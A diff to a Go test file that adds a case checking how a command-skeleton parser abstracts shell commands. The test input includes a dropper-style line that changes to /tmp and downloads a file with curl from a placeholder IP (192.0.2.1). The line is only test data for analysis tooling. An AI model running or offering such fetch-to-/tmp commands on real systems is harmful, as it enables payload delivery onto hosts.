@@ -80,6 +80,10 @@ func TestSkeletonsOfCommands(t *testing.T) {
 	if a, b := parsed("", "x", "cat a|tail -n +3 | head -n 1").Cargo, parsed("", "x", "cat /b 2>&1").Cargo; a.Compared() != b.Compared() || a.Text == b.Text {
 		t.Errorf("filters of output are compared: %q %q", a.Compared(), b.Compared())
 	}
+	if a, b := parsed("", "x", "cd /tmp||cd /;curl -fsSL http://192.0.2.1 -o x").Cargo, parsed("", "x", "cd /; curl 192.0.2.1").Cargo; Show(a.Compared()) != "cd <V>\ncurl <URL> <V>" ||
+		Show(b.Compared()) != "" && Show(b.Compared()) != "cd <V>\ncurl <IP>" {
+		t.Errorf("options and repetitions are compared: %q %q", Show(a.Compared()), Show(b.Compared()))
+	}
 }
 
 func TestTheCargoIsFoundInItsVehicle(t *testing.T) {
